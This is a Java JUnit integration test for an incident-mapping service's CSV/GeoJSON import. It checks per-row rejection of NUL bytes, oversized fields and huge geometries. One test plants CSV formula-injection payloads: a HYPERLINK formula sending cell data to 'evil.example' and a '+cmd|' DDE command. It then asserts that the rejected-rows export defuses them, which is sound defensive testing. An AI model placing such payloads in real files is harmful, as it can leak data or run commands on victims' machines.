package org.incidentmapper.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;

import org.incidentmapper.Api;
import org.incidentmapper.WriteIntegrationTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

import tools.jackson.databind.JsonNode;

/**
 * Issue 9 point 8: input that used to fail a whole accept-valid import (503) or the server (OutOfMemoryError, 500)
 * is an error of the row at fault, and the other rows are imported: NUL bytes, [lon, lat, z] positions, a field over
 * {@code mapper.import.max-field-chars}, a geometry over {@code mapper.import.max-vertices}. The rejected-rows CSV
 * defuses formulas as the CSV export does.
 */
@WriteIntegrationTest
class BadInputImportTest {

    static final String HEADER = "external_id,category,title,description,start_date,lon,lat,location_precision,country\n";

    @LocalServerPort
    int port;
    @Autowired
    JdbcClient jdbc;
    Api api;

    @BeforeEach
    void setUp() {
        api = new Api(port);
    }

    @Test
    void nulByteInACsvRowRejectsThatRowOnly() {
        String file = HEADER + "nul-1,raid,Good,,2024-01-10,103.52,10.61,town,KHM\n"
                + "nul-2,raid,Bad\0title,,2024-01-10,103.52,10.61,town,KHM\n"
                + "nul-3,raid,Also good,,2024-01-11,103.53,10.62,town,KHM\n";
        JsonNode report = acceptValid("nul.csv", file.getBytes(StandardCharsets.UTF_8));
        assertThat(report.get("created").asInt()).isEqualTo(2);
        assertThat(report.get("rejected").asInt()).isEqualTo(1);
        assertThat(report.get("rows").get(0).get("row").asInt()).isEqualTo(2);
        assertThat(report.get("rows").get(0).get("field").asString()).isEqualTo("title");
        assertThat(report.get("rows").get(0).get("message").asString()).contains("NUL");
        assertThat(ids("nul-")).containsExactly("nul-1", "nul-3");
        assertThat(api.get(report.get("rejectedCsv").asString()).body()).contains("nul-2,raid,Bad\uFFFDtitle");
    }

    @Test
    void nulInAGeoJsonPropertyRejectsThatFeatureOnly() {
        String file = collection(point("gnul-1", "Good", "[103.5,10.6]"), point("gnul-2", "Bad\\u0000", "[103.5,10.6]"));
        JsonNode report = acceptValid("nul.geojson", file.getBytes(StandardCharsets.UTF_8));
        assertThat(report.get("created").asInt()).isEqualTo(1);
        assertThat(report.get("rows").get(0).get("field").asString()).isEqualTo("title");
        assertThat(ids("gnul-")).containsExactly("gnul-1");
    }

    /** Analysts' GPS exports carry heights: kept as the 2D point, as the map shows it (the height is dropped). */
    @Test
    void positionsWithHeightOrMeasureAreImportedIn2d() {
        String file = collection(point("z-1", "Height", "[103.5,10.6,12.5]"), point("z-2", "Height and measure",
                "[103.51,10.61,12.5,3]"), polygon("z-3", "Precinct with heights",
                "[[[103.5,10.6,1],[103.6,10.6,1],[103.6,10.7,1],[103.5,10.6,1]]]"));
        JsonNode report = acceptValid("z.geojson", file.getBytes(StandardCharsets.UTF_8));
        assertThat(report.get("created").asInt()).as(report.toString()).isEqualTo(3);
        assertThat(jdbc.sql("SELECT external_id || ' ' || ST_AsText(geom) FROM incident WHERE external_id LIKE 'z-%' "
                + "ORDER BY external_id").query(String.class).list()).containsExactly("z-1 POINT(103.5 10.6)",
                "z-2 POINT(103.51 10.61)", "z-3 POLYGON((103.5 10.6,103.6 10.6,103.6 10.7,103.5 10.6))");
    }

    @Test
    void aFieldOverTheLimitRejectsThatRowOnly() {
        String huge = "x".repeat(1_000_001);
        String file = HEADER + "long-1,raid,Good,,2024-01-10,103.52,10.61,town,KHM\n"
                + "long-2,raid,Long,\"" + huge + "\",2024-01-10,103.52,10.61,town,KHM\n";
        JsonNode report = acceptValid("long.csv", file.getBytes(StandardCharsets.UTF_8));
        assertThat(report.get("created").asInt()).isEqualTo(1);
        assertThat(report.get("rows").get(0).get("field").asString()).isEqualTo("description");
        assertThat(report.get("rows").get(0).get("message").asString())
                .contains("longer than 1000000 characters (setting mapper.import.max-field-chars)");
        assertThat(ids("long-")).containsExactly("long-1");
    }

    @Test
    void aGeometryOverTheVertexLimitRejectsThatFeatureOnly() {
        // short positions keep the file under the test upload limit (2 MB); the limit is hit before any check
        String ring = "[[" + "[1,1],".repeat(100_000) + "[2,2],[1,1]]]";
        String file = collection(point("v-1", "Good", "[103.5,10.6]"), polygon("v-2", "Huge", ring));
        JsonNode report = acceptValid("v.geojson", file.getBytes(StandardCharsets.UTF_8));
        assertThat(report.get("created").asInt()).isEqualTo(1);
        assertThat(report.get("rows").get(0).get("field").asString()).isEqualTo("geometry");
        assertThat(report.get("rows").get(0).get("message").asString())
                .contains("more than 100000 positions (setting mapper.import.max-vertices)");
        assertThat(ids("v-")).containsExactly("v-1");
    }

    @Test
    void rejectedRowsCsvDefusesFormulasButNotNumbers() {
        // rejected for its category; every other cell is what an attacker would plant
        String file = HEADER + "=HYPERLINK(\"http://evil.example/\"&A1),no-such-category,+cmd|' /C calc'!A0,@SUM(1),2024-01-10,"
                + "-103.52,10.61,town,KHM\n";
        JsonNode report = acceptValid("formula.csv", file.getBytes(StandardCharsets.UTF_8));
        assertThat(report.get("rejected").asInt()).isEqualTo(1);
        List<String> lines = api.get(report.get("rejectedCsv").asString()).body().lines().toList();
        assertThat(lines.get(1)).startsWith("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\",no-such-category,'+cmd|' /C calc'!A0,"
                + "'@SUM(1),2024-01-10,-103.52,10.61,town,KHM,");
    }

    JsonNode acceptValid(String name, byte[] content) {
        Api.Response r = api.upload("/api/imports", name, content, "mode", "accept-valid");
        assertThat(r.status()).as(r.body()).isEqualTo(200);
        return r.json();
    }

    List<String> ids(String prefix) {
        return jdbc.sql("SELECT external_id FROM incident WHERE external_id LIKE :p ORDER BY external_id")
                .param("p", prefix + "%").query(String.class).list();
    }

    static String collection(String... features) {
        return "{\"type\":\"FeatureCollection\",\"features\":[" + String.join(",", features) + "]}";
    }

    static String point(String id, String title, String coordinates) {
        return feature(id, title, "{\"type\":\"Point\",\"coordinates\":" + coordinates + "}");
    }

    static String polygon(String id, String title, String rings) {
        return feature(id, title, "{\"type\":\"Polygon\",\"coordinates\":" + rings + "}");
    }

    static String feature(String id, String title, String geometry) {
        return "{\"type\":\"Feature\",\"geometry\":" + geometry + ",\"properties\":{\"externalId\":\"" + id
                + "\",\"category\":\"raid\",\"title\":\"" + title + "\",\"startDate\":\"2024-04-01\","
                + "\"locationPrecision\":\"town\",\"country\":\"KHM\"}}";
    }
}
